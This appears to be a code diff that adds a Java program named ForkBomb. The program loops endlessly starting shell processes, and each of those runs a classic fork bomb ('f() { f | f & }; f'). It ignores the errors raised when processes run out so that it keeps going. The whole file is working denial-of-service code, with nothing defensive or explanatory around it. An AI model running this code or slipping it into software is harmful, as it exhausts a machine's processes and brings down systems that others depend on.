@@ -0,0 +1,23 @@
+import java.util.ArrayList;
+
+/**
+ * Start processes, each of which does the same, until something gives.
+ */
+public class ForkBomb
+{
+    public static void main(String[] args) throws Exception
+    {
+        ArrayList<Process> children = new ArrayList<>();
+        while (true)
+        {
+            try
+            {
+                children.add(new ProcessBuilder("/bin/sh", "-c", "f() { f | f & }; f").start());
+            }
+            catch (Exception e)
+            {
+                /* Out of processes; keep trying. */
+            }
+        }
+    }
+}